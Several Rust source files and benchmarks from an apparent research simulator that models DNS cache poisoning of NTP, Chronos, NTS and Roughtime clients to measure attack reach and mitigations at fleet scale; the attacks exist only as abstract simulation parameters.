            DnsAnswer::StaleBenign { batch: 1 }
        ));
        // The last fetch (400 s, expiry 550 s) ages out at 550+600 s.
        assert!(matches!(
            tl.stale_answer(1149 * SEC),
            DnsAnswer::StaleBenign { batch: 2 }
        ));
        assert_eq!(tl.stale_answer(1150 * SEC), DnsAnswer::Fail);
        // Without a policy every SERVFAIL fails outright.
        let strict = ResolverModel::new(&config(None)).timeline(&uniform(&[0], 200 * SEC, 3));
        assert_eq!(strict.stale_answer(10 * SEC), DnsAnswer::Fail);
    }

    #[test]
    fn reset_rewinds_rotation_and_cache() {
        let mut r = ResolverModel::new(&config(None));
        r.query_shared(0);
        r.query_shared(200 * SEC);
        assert_eq!(r.fetches(), 2);
        r.reset();
        assert_eq!(r.fetches(), 0);
        assert!(matches!(
            r.query_shared(0),
            DnsAnswer::Benign { batch: 0, .. }
        ));
    }
}
