//! The fleet's shared resolver-cache model.
//!
//! Mirrors the `dnslab` semantics the packet-level scenarios exercise,
//! reduced to what pool composition depends on:
//!
//! * the benign zone rotates `per_response` addresses per *upstream fetch*
//!   (cf. [`dnslab::zone::Rotation`]), and the recursive resolver caches
//!   each fetched batch for the record TTL (150 s for pool.ntp.org) — so
//!   clients querying inside one TTL window all see the *same* batch;
//! * a poisoned entry (however it got there) freezes the cache for its
//!   attacker-chosen TTL: every query in `[at, at + ttl)` returns the
//!   malicious record set.
//!
//! Answers are batch *identities*, not addresses: batch `b` stands for the
//! rotation slice `addrs[b·k mod U .. b·k+k mod U]`, and since the engine
//! only needs pool composition (which servers lie) the identity is enough.

use crate::config::FleetConfig;
use serde::{Deserialize, Serialize};

/// What one DNS query returned.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum DnsAnswer {
    /// A benign rotation batch (`per_response` addresses, identified by
    /// the rotation residue `batch % rotation_batches`).
    Benign {
        /// Rotation batch identity.
        batch: u64,
        /// Record TTL, seconds.
        ttl_secs: u32,
    },
    /// The attacker's record set.
    Poisoned {
        /// Malicious records in the response.
        farm_size: usize,
        /// Record TTL, seconds.
        ttl_secs: u32,
    },
}

/// The shared (or per-client, see [`FleetConfig::shared_cache`]) resolver
/// cache.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ResolverModel {
    ttl_ns: u64,
    benign_ttl_secs: u32,
    poison: Option<(u64, u64, usize, u32)>, // (from, until, farm, ttl)
    /// Upstream fetches performed (== batches served so far).
    cursor: u64,
    cached_batch: u64,
    cached_until: u64,
    primed: bool,
}

impl ResolverModel {
    /// A resolver for `config`'s zone shape and attack.
    pub fn new(config: &FleetConfig) -> Self {
        let poison = config.attack.map(|a| {
            let (from, until) = a.window_ns();
            (from, until, a.farm_size, a.ttl_secs)
        });
        ResolverModel {
            ttl_ns: config.benign_ttl.as_nanos(),
            benign_ttl_secs: config.benign_ttl.as_secs() as u32,
            poison,
            cursor: 0,
            cached_batch: 0,
            cached_until: 0,
            primed: false,
        }
    }

    /// Empties the cache and rewinds the rotation (fleet-reuse support).
    pub fn reset(&mut self) {
        self.cursor = 0;
        self.cached_batch = 0;
        self.cached_until = 0;
        self.primed = false;
    }

    /// Upstream fetches performed so far.
    pub fn fetches(&self) -> u64 {
        self.cursor
    }

    /// Answers a query through the shared cache at `now_ns`.
    pub fn query_shared(&mut self, now_ns: u64) -> DnsAnswer {
        if let Some((from, until, farm_size, ttl_secs)) = self.poison {
            if now_ns >= from && now_ns < until {
                return DnsAnswer::Poisoned {
                    farm_size,
                    ttl_secs,
                };
            }
        }
        if !self.primed || now_ns >= self.cached_until {
            self.cached_batch = self.cursor;
            self.cursor += 1;
            self.cached_until = now_ns.saturating_add(self.ttl_ns);
            self.primed = true;
        }
        DnsAnswer::Benign {
            batch: self.cached_batch,
            ttl_secs: self.benign_ttl_secs,
        }
    }

    /// Answers a query for an *independent* client (no shared cache): the
    /// client's `round` index is its private rotation position.
    pub fn query_independent(&self, now_ns: u64, round: u64) -> DnsAnswer {
        if let Some((from, until, farm_size, ttl_secs)) = self.poison {
            if now_ns >= from && now_ns < until {
                return DnsAnswer::Poisoned {
                    farm_size,
                    ttl_secs,
                };
            }
        }
        DnsAnswer::Benign {
            batch: round,
            ttl_secs: self.benign_ttl_secs,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::FleetAttack;
    use netsim::time::{SimDuration, SimTime};

    const SEC: u64 = 1_000_000_000;

    fn config(attack: Option<FleetAttack>) -> FleetConfig {
        FleetConfig {
            attack,
            ..FleetConfig::default()
        }
    }

    #[test]
    fn shared_cache_serves_one_batch_per_ttl_window() {
        let mut r = ResolverModel::new(&config(None));
        let a = r.query_shared(0);
        let b = r.query_shared(100 * SEC); // inside the 150 s TTL
        assert_eq!(a, b, "cached batch is shared");
        let c = r.query_shared(151 * SEC);
        assert!(matches!(c, DnsAnswer::Benign { batch: 1, .. }));
        assert_eq!(r.fetches(), 2);
    }

    #[test]
    fn poison_window_freezes_the_cache_for_everyone() {
        let attack =
            FleetAttack::paper_default(SimTime::from_secs(500), SimDuration::from_millis(500));
        let mut r = ResolverModel::new(&config(Some(attack)));
        assert!(matches!(r.query_shared(0), DnsAnswer::Benign { .. }));
        for t in [500u64, 600, 86_000, 86_900] {
            assert!(
                matches!(
                    r.query_shared(t * SEC),
                    DnsAnswer::Poisoned { farm_size: 89, .. }
                ),
                "t={t}s inside the window"
            );
        }
        // 500 + 86 401 s: the poisoned entry finally expires.
        assert!(matches!(
            r.query_shared(86_901 * SEC),
            DnsAnswer::Benign { .. }
        ));
    }

    #[test]
    fn independent_mode_keys_rotation_by_round() {
        let r = ResolverModel::new(&config(None));
        assert!(matches!(
            r.query_independent(0, 0),
            DnsAnswer::Benign { batch: 0, .. }
        ));
        assert!(matches!(
            r.query_independent(0, 7),
            DnsAnswer::Benign { batch: 7, .. }
        ));
    }

    #[test]
    fn reset_rewinds_rotation_and_cache() {
        let mut r = ResolverModel::new(&config(None));
        r.query_shared(0);
        r.query_shared(200 * SEC);
        assert_eq!(r.fetches(), 2);
        r.reset();
        assert_eq!(r.fetches(), 0);
        assert!(matches!(
            r.query_shared(0),
            DnsAnswer::Benign { batch: 0, .. }
        ));
    }
}
