//! Cohorts: heterogeneous client tiers and the deterministic
//! client→tier / client→resolver assignment.
//!
//! PRs 3–4 simulated a *homogeneous* population — every client a Chronos
//! client with the same configuration, all behind one resolver. The real
//! Internet mixes Chronos and plain-NTP clients across many resolvers,
//! and attack reach is governed by *which fraction of resolvers* the
//! attacker poisons (arXiv:2010.09338). This module supplies the two
//! deterministic assignment functions that make such fleets simulable
//! without giving up any reproducibility guarantee:
//!
//! * **client → tier** ([`TierAssignment`]): a balanced weighted
//!   round-robin pattern over the tier shares, indexed by global client
//!   id. Any contiguous id window of `N` clients contains each tier
//!   within ±1 of its exact share `N·wᵗ/Σw` (unit-tested), and the
//!   assignment is a pure function of `(tiers, global id)` — independent
//!   of fleet slicing, shard size and thread count.
//! * **client → resolver** ([`resolver_of`]): a hash of
//!   `(fleet seed, global id)` reduced onto the `R` resolvers. Hashing
//!   (rather than striding) decorrelates the resolver choice from the
//!   tier pattern, and because the hash reads only the *global* id it is
//!   invariant under sharding, threading and fleet slicing too.
//!
//! Both functions are consulted once per client at
//! [`Fleet::rebuild`](crate::engine::Fleet) time and materialized into
//! struct-of-arrays columns, so the hot stepping loop never recomputes
//! them.

use crate::rng::client_seed;
use chronos::config::ChronosConfig;
use netsim::time::SimDuration;
use serde::{Deserialize, Serialize};

/// Salt folded into the fleet seed before hashing a client id onto a
/// resolver, so the resolver draw is decorrelated from the client's
/// boot/drift RNG stream (which hashes the unsalted seed).
const RESOLVER_ASSIGN_SALT: u64 = 0x5eed_d15c_0bab_b1e5;

/// Default servers a plain-NTP client keeps from its single DNS
/// resolution (`pool.ntp.org` serves 4 addresses per response).
pub const PLAIN_DEFAULT_SERVERS: usize = 4;

/// Default number of independently-resolved Roughtime sources
/// cross-referenced per fetch round (M). Three is the smallest count
/// with a strict majority under one compromised source.
pub const ROUGHTIME_DEFAULT_SOURCES: usize = 3;

/// Hard cap on Roughtime sources per client: the resolved/poisoned
/// source sets are packed into one `u32` association column (two 16-bit
/// masks), so M must fit in 16 bits.
pub const ROUGHTIME_MAX_SOURCES: usize = 16;

/// Default NTS key lifetime (24 h): how long an association's cookies
/// stay usable after the NTS-KE handshake that minted them.
pub const NTS_DEFAULT_KEY_LIFETIME_SECS: u64 = 86_400;

/// Default NTS re-key cadence (24 h): how often a client re-runs
/// NTS-KE — and therefore re-resolves the KE server name through its
/// (possibly poisoned) resolver.
pub const NTS_DEFAULT_REKEY_SECS: u64 = 86_400;

/// What kind of time client a tier runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ClientKind {
    /// The Chronos client: multi-round pool generation, provably secure
    /// selection, accept/reject/panic machinery ([`chronos::core`]).
    Chronos,
    /// The traditional ntpd baseline: one DNS resolution at boot, a fixed
    /// 4-server pool, intersection → cluster → combine each poll
    /// ([`ntplab::combine::ntpd_pipeline`]).
    PlainNtp,
    /// NTS-secured NTP (RFC 8915): time samples are authenticated, so a
    /// poisoned resolver cannot alter offsets *post-association* — but
    /// the NTS-KE bootstrap (server-name resolution at boot and on every
    /// re-key) still rides the tier's resolver. A boot or re-key inside
    /// the poison window associates the client to attacker-controlled
    /// servers for the key lifetime.
    Nts,
    /// Roughtime-style redundant fetch: M sources resolved through M
    /// *distinct* resolvers at boot, each poll cross-references their
    /// signed midpoints by majority; rounds without a strict majority are
    /// flagged as detected inconsistencies and applied nowhere. M = 1
    /// degenerates to a single-server plain fetch — the ETH2-Medalla
    /// failure mode.
    Roughtime,
}

/// One population tier of a heterogeneous fleet: a client kind, a
/// relative population share, and optional per-tier configuration
/// overrides layered on the fleet-level knobs.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CohortTier {
    /// Label used in reports and figures (e.g. `"chronos"`,
    /// `"plain ntp"`).
    pub label: String,
    /// Which client implementation this tier runs.
    pub kind: ClientKind,
    /// Relative population share (weights, not percentages): tiers with
    /// shares `[3, 1]` split the fleet 75 % / 25 %. Must be ≥ 1.
    pub share: u32,
    /// Full per-tier [`ChronosConfig`] replacing the fleet-level one
    /// (Chronos tiers only; `None` inherits the fleet config).
    pub chronos: Option<ChronosConfig>,
    /// Poll-cadence override, applied after `chronos`: for Chronos tiers
    /// it replaces `chronos.poll_interval`, for plain-NTP tiers it is the
    /// poll interval itself.
    pub poll_interval: Option<SimDuration>,
    /// Pool-size override: for Chronos tiers it replaces
    /// `chronos.pool.queries` (the number of pool-generation rounds), for
    /// plain-NTP tiers the number of servers kept from the single
    /// resolution (default [`PLAIN_DEFAULT_SERVERS`]), for NTS tiers the
    /// number of servers the KE handshake hands out (default: the tier's
    /// `chronos.sample_size`).
    pub pool_size: Option<usize>,
    /// NTS tiers only: how long one association's keys stay usable
    /// (default [`NTS_DEFAULT_KEY_LIFETIME_SECS`]). Samples after expiry
    /// are discarded until the next re-key succeeds.
    pub key_lifetime: Option<SimDuration>,
    /// NTS tiers only: cadence of scheduled NTS-KE re-keys, each of which
    /// re-resolves the KE server name (default
    /// [`NTS_DEFAULT_REKEY_SECS`]). Set it beyond the horizon to model
    /// boot-only association.
    pub rekey_interval: Option<SimDuration>,
    /// Roughtime tiers only: number of independently-resolved sources M
    /// cross-referenced per fetch (default
    /// [`ROUGHTIME_DEFAULT_SOURCES`], at most
    /// [`ROUGHTIME_MAX_SOURCES`]).
    pub sources: Option<usize>,
}

impl CohortTier {
    fn base(label: &str, kind: ClientKind, share: u32) -> CohortTier {
        CohortTier {
            label: label.to_string(),
            kind,
            share,
            chronos: None,
            poll_interval: None,
            pool_size: None,
            key_lifetime: None,
            rekey_interval: None,
            sources: None,
        }
    }

    /// A Chronos tier inheriting every fleet-level knob.
    pub fn chronos(label: &str, share: u32) -> CohortTier {
        CohortTier::base(label, ClientKind::Chronos, share)
    }

    /// A plain-NTP tier with the default 4-server pool.
    pub fn plain_ntp(label: &str, share: u32) -> CohortTier {
        CohortTier::base(label, ClientKind::PlainNtp, share)
    }

    /// An NTS tier with the default daily key lifetime and re-key
    /// cadence.
    pub fn nts(label: &str, share: u32) -> CohortTier {
        CohortTier::base(label, ClientKind::Nts, share)
    }

    /// A Roughtime tier with the default M = 3 independently-resolved
    /// sources.
    pub fn roughtime(label: &str, share: u32) -> CohortTier {
        CohortTier::base(label, ClientKind::Roughtime, share)
    }
}

/// A tier's knobs resolved against the fleet-level configuration: what
/// the engine actually consults while stepping a client of this tier.
#[derive(Debug, Clone, PartialEq)]
pub struct TierParams {
    /// Tier label (for reports).
    pub label: String,
    /// Which client implementation the tier runs.
    pub kind: ClientKind,
    /// The effective Chronos parameters. Plain-NTP tiers still read
    /// `poll_interval` and `response_window` from here (their cadence),
    /// but none of the selection machinery.
    pub chronos: ChronosConfig,
    /// Plain-NTP: servers kept from the single DNS resolution. NTS:
    /// servers the KE handshake hands out per association.
    pub plain_servers: usize,
    /// NTS only: association key lifetime in nanoseconds.
    pub key_lifetime_ns: u64,
    /// NTS only: scheduled re-key cadence in nanoseconds (each re-key is
    /// a fresh KE server-name resolution).
    pub rekey_interval_ns: u64,
    /// Roughtime only: number of independently-resolved sources M.
    pub sources: usize,
    /// This tier's fault probabilities, stamped by
    /// [`crate::config::FleetConfig::effective_tiers`] from the fleet's
    /// [`crate::config::FaultPlan`] (inert when resolved directly).
    pub faults: crate::config::TierFaults,
}

impl TierParams {
    /// Resolves one tier against the fleet-level Chronos config.
    pub fn resolve(tier: &CohortTier, fleet_chronos: &ChronosConfig) -> TierParams {
        let mut chronos = tier
            .chronos
            .clone()
            .unwrap_or_else(|| fleet_chronos.clone());
        if let Some(poll) = tier.poll_interval {
            chronos.poll_interval = poll;
        }
        if tier.kind == ClientKind::Chronos {
            if let Some(pool) = tier.pool_size {
                chronos.pool.queries = pool;
            }
        }
        // NTS associations default to the Chronos sample size so the
        // authenticated pool feeds the same selection machinery; plain
        // NTP keeps the classic 4-address DNS response.
        let plain_servers = match tier.kind {
            ClientKind::Nts => tier.pool_size.unwrap_or(chronos.sample_size),
            _ => tier.pool_size.unwrap_or(PLAIN_DEFAULT_SERVERS),
        };
        TierParams {
            label: tier.label.clone(),
            kind: tier.kind,
            chronos,
            plain_servers,
            key_lifetime_ns: tier
                .key_lifetime
                .unwrap_or(SimDuration::from_secs(NTS_DEFAULT_KEY_LIFETIME_SECS))
                .as_nanos(),
            rekey_interval_ns: tier
                .rekey_interval
                .unwrap_or(SimDuration::from_secs(NTS_DEFAULT_REKEY_SECS))
                .as_nanos(),
            sources: tier.sources.unwrap_or(ROUGHTIME_DEFAULT_SOURCES),
            faults: crate::config::TierFaults::default(),
        }
    }
}

/// The deterministic client→tier map: a balanced weighted round-robin
/// pattern (nginx-style *smooth WRR*) over the tier shares reduced by
/// their gcd, indexed by `global_id % period`.
///
/// The smooth-WRR interleave keeps every prefix of the pattern within a
/// fraction of a slot of its exact proportional count, so any contiguous
/// window of client ids contains each tier within ±1 of `N·wᵗ/Σw`
/// (asserted by the unit tests across window sizes and offsets). Because
/// the map reads only the global id, it is invariant under fleet slicing
/// ([`crate::config::FleetConfig::first_client_id`]), shard size and
/// thread count.
#[derive(Debug, Clone, PartialEq)]
pub struct TierAssignment {
    /// `pattern[g % pattern.len()]` is the tier index of global id `g`.
    pattern: Vec<u8>,
    /// Number of tiers (1 for the implicit homogeneous tier).
    tiers: usize,
}

impl TierAssignment {
    /// Builds the assignment pattern for `tiers`. An empty slice is the
    /// homogeneous fleet: one implicit tier 0 covering everyone.
    ///
    /// # Panics
    ///
    /// Panics on invalid shares (zero) or more than 255 tiers — callers
    /// should have validated through
    /// [`crate::config::FleetConfig::validate`] first.
    pub fn new(tiers: &[CohortTier]) -> TierAssignment {
        if tiers.is_empty() {
            return TierAssignment {
                pattern: vec![0],
                tiers: 1,
            };
        }
        assert!(tiers.len() <= 255, "at most 255 tiers (u8 column)");
        let mut shares: Vec<u64> = tiers.iter().map(|t| u64::from(t.share)).collect();
        assert!(shares.iter().all(|&w| w > 0), "tier shares must be >= 1");
        let g = shares.iter().copied().fold(0, gcd);
        for w in &mut shares {
            *w /= g;
        }
        let period: u64 = shares.iter().sum();
        // Smooth weighted round-robin: each slot, every tier's counter
        // grows by its share and the largest counter (lowest index on
        // ties) wins the slot and pays back one full period. Each period
        // contains exactly `share` slots per tier, maximally interleaved.
        let mut pattern = Vec::with_capacity(period as usize);
        let mut current = vec![0i64; shares.len()];
        for _ in 0..period {
            for (c, &w) in current.iter_mut().zip(&shares) {
                *c += w as i64;
            }
            let best = (0..current.len())
                .max_by_key(|&t| (current[t], std::cmp::Reverse(t)))
                .expect("at least one tier");
            pattern.push(best as u8);
            current[best] -= period as i64;
        }
        TierAssignment {
            pattern,
            tiers: tiers.len(),
        }
    }

    /// The tier index of global client id `g`.
    #[inline]
    pub fn tier_of(&self, global_id: u64) -> u8 {
        self.pattern[(global_id % self.pattern.len() as u64) as usize]
    }

    /// Number of tiers in the assignment.
    pub fn tiers(&self) -> usize {
        self.tiers
    }

    /// Length of the repeating pattern (sum of gcd-reduced shares).
    pub fn period(&self) -> usize {
        self.pattern.len()
    }

    /// Exact tier population counts over the contiguous id window
    /// `[first, first + clients)`.
    pub fn counts(&self, first: u64, clients: usize) -> Vec<usize> {
        let mut counts = vec![0usize; self.tiers];
        for g in first..first + clients as u64 {
            counts[self.tier_of(g) as usize] += 1;
        }
        counts
    }
}

fn gcd(a: u64, b: u64) -> u64 {
    if b == 0 {
        a
    } else {
        gcd(b, a % b)
    }
}

/// The deterministic client→resolver map: global id `g` resolves through
/// resolver `hash(seed ⊕ salt, g) mod R`.
///
/// A hash (not a stride) so the resolver draw is independent of the tier
/// pattern; a function of the *global* id alone so it is invariant under
/// shard size, thread count and fleet slicing — the same client lands on
/// the same resolver in any decomposition, which the determinism tests
/// pin.
#[inline]
pub fn resolver_of(fleet_seed: u64, global_id: u64, resolvers: usize) -> u16 {
    debug_assert!(resolvers >= 1 && resolvers <= u16::MAX as usize + 1);
    let h = client_seed(fleet_seed ^ RESOLVER_ASSIGN_SALT, global_id);
    ((u128::from(h) * resolvers as u128) >> 64) as u16
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiers_with_shares(shares: &[u32]) -> Vec<CohortTier> {
        shares
            .iter()
            .enumerate()
            .map(|(i, &w)| CohortTier::chronos(&format!("t{i}"), w))
            .collect()
    }

    #[test]
    fn empty_tiers_is_one_homogeneous_tier() {
        let a = TierAssignment::new(&[]);
        assert_eq!(a.tiers(), 1);
        assert_eq!(a.period(), 1);
        for g in 0..100 {
            assert_eq!(a.tier_of(g), 0);
        }
    }

    /// The balance contract: any contiguous id window holds each tier
    /// within ±1 of its exact proportional share.
    #[test]
    fn windows_are_within_one_of_exact_share() {
        for shares in [
            vec![1u32],
            vec![1, 1],
            vec![3, 1],
            vec![2, 1, 1],
            vec![5, 3, 2],
            vec![7, 1],
            vec![50, 50], // gcd-reduced to [1, 1]
            vec![4, 2, 2],
        ] {
            let a = TierAssignment::new(&tiers_with_shares(&shares));
            let total: u64 = shares.iter().map(|&w| u64::from(w)).sum();
            for first in [0u64, 1, 7, 1000, 12_345] {
                for clients in [1usize, 5, 16, 100, 1009] {
                    let counts = a.counts(first, clients);
                    for (t, &w) in shares.iter().enumerate() {
                        let exact = clients as f64 * f64::from(w) / total as f64;
                        let got = counts[t] as f64;
                        assert!(
                            (got - exact).abs() <= 1.0,
                            "shares {shares:?} window [{first}, +{clients}): tier {t} \
                             got {got}, exact {exact}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn gcd_reduction_interleaves_large_equal_shares() {
        // 50/50 must alternate, not emit 50-long blocks.
        let a = TierAssignment::new(&tiers_with_shares(&[50, 50]));
        assert_eq!(a.period(), 2);
        assert_ne!(a.tier_of(0), a.tier_of(1));
    }

    #[test]
    fn assignment_is_a_pure_function_of_the_global_id() {
        let a = TierAssignment::new(&tiers_with_shares(&[3, 1]));
        let b = TierAssignment::new(&tiers_with_shares(&[3, 1]));
        for g in 0..1000 {
            assert_eq!(a.tier_of(g), b.tier_of(g));
        }
    }

    #[test]
    fn resolver_assignment_is_deterministic_and_seed_sensitive() {
        for g in 0..100 {
            assert_eq!(resolver_of(7, g, 8), resolver_of(7, g, 8));
            assert!(usize::from(resolver_of(7, g, 8)) < 8);
            assert_eq!(resolver_of(7, g, 1), 0);
        }
        // A different fleet seed reshuffles the assignment.
        let moved = (0..1000)
            .filter(|&g| resolver_of(7, g, 8) != resolver_of(8, g, 8))
            .count();
        assert!(moved > 500, "only {moved}/1000 clients moved across seeds");
    }

    #[test]
    fn resolver_assignment_is_roughly_uniform() {
        let (seed, r, n) = (42u64, 8usize, 16_000u64);
        let mut counts = vec![0usize; r];
        for g in 0..n {
            counts[usize::from(resolver_of(seed, g, r))] += 1;
        }
        let expected = n as f64 / r as f64;
        for (i, &c) in counts.iter().enumerate() {
            // ±5 sigma of the binomial spread — loose enough to be
            // deterministic-test-stable, tight enough to catch a broken mix.
            let sigma = (expected * (1.0 - 1.0 / r as f64)).sqrt();
            assert!(
                (c as f64 - expected).abs() < 5.0 * sigma,
                "resolver {i} got {c} of {n} (expected ~{expected:.0})"
            );
        }
    }

    #[test]
    fn tier_params_resolve_overrides() {
        let fleet_chronos = ChronosConfig::default();
        let mut tier = CohortTier::chronos("fast", 1);
        tier.poll_interval = Some(SimDuration::from_secs(16));
        tier.pool_size = Some(6);
        let p = TierParams::resolve(&tier, &fleet_chronos);
        assert_eq!(p.chronos.poll_interval, SimDuration::from_secs(16));
        assert_eq!(p.chronos.pool.queries, 6);
        assert_eq!(p.kind, ClientKind::Chronos);

        let mut plain = CohortTier::plain_ntp("plain", 1);
        let p = TierParams::resolve(&plain, &fleet_chronos);
        assert_eq!(p.plain_servers, PLAIN_DEFAULT_SERVERS);
        // Plain pool_size sets the server count, not pool.queries.
        plain.pool_size = Some(3);
        let p = TierParams::resolve(&plain, &fleet_chronos);
        assert_eq!(p.plain_servers, 3);
        assert_eq!(p.chronos.pool.queries, fleet_chronos.pool.queries);
    }

    #[test]
    fn secure_tier_params_resolve_defaults_and_overrides() {
        let fleet_chronos = ChronosConfig::default();

        // NTS: association pool defaults to the Chronos sample size so
        // the authenticated samples feed the same selection machinery.
        let mut nts = CohortTier::nts("nts", 1);
        let p = TierParams::resolve(&nts, &fleet_chronos);
        assert_eq!(p.kind, ClientKind::Nts);
        assert_eq!(p.plain_servers, fleet_chronos.sample_size);
        assert_eq!(
            p.key_lifetime_ns,
            SimDuration::from_secs(NTS_DEFAULT_KEY_LIFETIME_SECS).as_nanos()
        );
        assert_eq!(
            p.rekey_interval_ns,
            SimDuration::from_secs(NTS_DEFAULT_REKEY_SECS).as_nanos()
        );
        nts.pool_size = Some(7);
        nts.key_lifetime = Some(SimDuration::from_secs(900));
        nts.rekey_interval = Some(SimDuration::from_secs(600));
        let p = TierParams::resolve(&nts, &fleet_chronos);
        assert_eq!(p.plain_servers, 7);
        assert_eq!(p.key_lifetime_ns, SimDuration::from_secs(900).as_nanos());
        assert_eq!(p.rekey_interval_ns, SimDuration::from_secs(600).as_nanos());

        // Roughtime: M defaults to 3, overridable down to the Medalla
        // single-source degeneracy.
        let mut rt = CohortTier::roughtime("roughtime", 1);
        let p = TierParams::resolve(&rt, &fleet_chronos);
        assert_eq!(p.kind, ClientKind::Roughtime);
        assert_eq!(p.sources, ROUGHTIME_DEFAULT_SOURCES);
        rt.sources = Some(1);
        let p = TierParams::resolve(&rt, &fleet_chronos);
        assert_eq!(p.sources, 1);
    }

    #[test]
    #[should_panic(expected = "shares must be >= 1")]
    fn zero_share_rejected() {
        TierAssignment::new(&tiers_with_shares(&[2, 0]));
    }
}
