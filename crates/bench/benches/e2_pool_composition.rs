//! E2 — pool composition vs poisoning round (the paper's §IV arithmetic):
//! benign = 4·(p−1), malicious = 89, attacker ≥ 2/3 iff p ≤ 12.

use bench::banner;
use chronos_pitfalls::experiments::run_e2;
use chronos_pitfalls::poolmodel::PoolModelParams;
use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e2(c: &mut Criterion) {
    banner("E2 — pool composition vs poisoning round");
    let result = run_e2(PoolModelParams::default());
    println!("{}", result.table());
    println!(
        "latest winning round: {:?} (paper: 12)",
        result.latest_winning_round
    );

    c.bench_function("e2_pool_composition/sweep_24", |b| {
        b.iter(|| run_e2(PoolModelParams::default()))
    });
}

criterion_group!(benches, bench_e2);
criterion_main!(benches);
