//! E8 — the §V mitigations (record cap, TTL rejection) and the 24 h BGP
//! hijack that defeats them, run as one pooled scenario sweep.

use bench::banner;
use chronos_pitfalls::experiments::{e8_table, run_e8};
use chronos_pitfalls::montecarlo::default_threads;
use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e8(c: &mut Criterion) {
    banner("E8 — mitigations vs the attack (claim C10)");
    let threads = default_threads();
    let rows = run_e8(11, threads);
    println!("{}", e8_table(&rows));

    let mut group = c.benchmark_group("e8_mitigations");
    group.sample_size(10);
    group.bench_function("all_variants", |b| b.iter(|| run_e8(11, threads)));
    group.finish();
}

criterion_group!(benches, bench_e8);
criterion_main!(benches);
