//! E14 — population-scale fleet simulation: 10⁵ Chronos clients stepped
//! through a full shared-cache poisoning scenario (24 pool rounds, cold
//! sync, panic dynamics) in one process, vs the equivalent per-world
//! stepping (one pooled netsim world per client — the PR 2 engine).
//!
//! Guards the fleet engine four ways:
//!
//! * `fleet_100k` (sequential, `threads = 1`), `fleet_100k_sharded`
//!   (`threads = 4`) and `fleet_100k_metrics` (sequential with a
//!   `FleetMetrics` side channel attached) have their per-iter means on
//!   `bench-diff`'s [`GUARDED`] list;
//! * `RATE_RATIO_GUARDS` holds the clients-stepped/sec ratio of
//!   `fleet_100k` over `perworld_8` at ≥ 5× (PR 3's scale advantage) and
//!   of `fleet_100k_sharded` over `fleet_100k` at ≥ 2× (PR 4's intra-fleet
//!   parallel win, evaluated on the 4-core CI runner — a single-core host
//!   cannot meet it);
//! * `RATIO_GUARDS` holds `min(fleet_100k) / min(fleet_100k_metrics)`
//!   at ≥ 0.98 — enabled instrumentation may cost at most ~2% on the
//!   guarded hot path. Both targets step the *same* fleet object (a
//!   second 100k-client allocation costs a few percent in placement
//!   alone), their samples are interleaved A/B via `bench_pair`, and the
//!   fastest samples are compared — so the floor is immune to host drift
//!   and scheduler noise;
//! * the sharded and instrumented runs' reports are asserted
//!   byte-identical to the sequential run's, so neither the speedup nor
//!   the observability can ever drift from the semantics.
//!
//! The instrumented run's stage summaries are attached to
//! `BENCH_e14_fleet_scale.json` as the `stage_timings` section, so the
//! perf trajectory shows *where* iterations spend their time.
//!
//! [`GUARDED`]: bench::benchdiff::GUARDED

use std::sync::Arc;

use bench::banner;
use chronos_pitfalls::experiments::{compressed_chronos, e14_config, e14_table, run_e14};
use chronos_pitfalls::montecarlo::{default_threads, run_scenarios_detailed};
use chronos_pitfalls::report::Series;
use chronos_pitfalls::scenario::ScenarioConfig;
use criterion::{criterion_group, criterion_main, Criterion, StageTiming, Throughput};
use fleet::config::FleetAttack;
use fleet::engine::Fleet;
use fleet::metrics::FleetMetrics;
use netsim::time::{SimDuration, SimTime};

/// Clients in the guarded fleet target (the acceptance floor is 10⁵).
const FLEET_CLIENTS: usize = 100_000;
/// Single-client netsim worlds in the per-world reference.
const PERWORLD_CLIENTS: usize = 8;
/// Workers in the sharded target — the acceptance point on the 4-core CI
/// runner.
const SHARDED_THREADS: usize = 4;

/// The guarded scenario: the paper's early poisoning against the full
/// 24-round generation, shared resolver cache, 6000 s horizon.
fn fleet_attack_config(clients: usize) -> fleet::FleetConfig {
    e14_config(
        42,
        clients,
        Some(FleetAttack::paper_default(
            SimTime::from_secs(400),
            SimDuration::from_millis(500),
        )),
    )
}

/// The equivalent per-world workload: one netsim world per client, same
/// compressed 24-round generation and an in-window Oracle poisoning, run
/// through the pooled scenario sweep engine (the fairest per-world
/// baseline this repo has).
fn perworld_configs() -> Vec<ScenarioConfig> {
    use attacklab::plan::{AttackPlan, PoisonStrategy};
    (0..PERWORLD_CLIENTS as u64)
        .map(|i| ScenarioConfig {
            seed: 4_200 + i,
            benign_universe: 240,
            ns_count: 2,
            chronos: compressed_chronos(24, SimDuration::from_secs(200)),
            attack: Some(AttackPlan {
                strategy: PoisonStrategy::Oracle { round: 2 },
                ..AttackPlan::paper_default(SimDuration::from_millis(500))
            }),
            ..ScenarioConfig::default()
        })
        .collect()
}

fn bench_e14(c: &mut Criterion) {
    banner("E14 — population-scale fleet vs per-world client stepping");
    let threads = default_threads();

    // Deliverable preamble: the population figure at 20k clients — four
    // attack variants from one `run_fleets` sweep.
    let result = run_e14(42, 20_000, threads);
    println!("{}", e14_table(&result));
    println!("fraction of fleet shifted beyond the 100 ms safety bound vs time:");
    println!("{}", Series::render_columns(&result.series, "t (s)", 16));

    // The guarded fleet run, production-shaped: one pooled fleet reset per
    // iteration (allocations reused), full poisoning scenario. Its
    // instrumented twin attaches a `FleetMetrics` side channel to the
    // *same* fleet object (allocator placement of a second 100k-client
    // column set costs a few percent by itself) and the two targets'
    // samples are interleaved A/B, so the `bench-diff` ratio floor
    // min(plain)/min(metrics) ≥ 0.98 measures only the side channel, not
    // host drift across sequential measurement blocks.
    let config = fleet_attack_config(FLEET_CLIENTS);
    let horizon = SimTime::ZERO + config.horizon;
    let mut fleet = Fleet::new(config);
    let metrics = Arc::new(FleetMetrics::detached());
    let mut group = c.benchmark_group("e14_fleet_scale");
    group.sample_size(5);
    group.throughput(Throughput::Elements(FLEET_CLIENTS as u64));
    group.bench_pair("fleet_100k", "fleet_100k_metrics", |metered| {
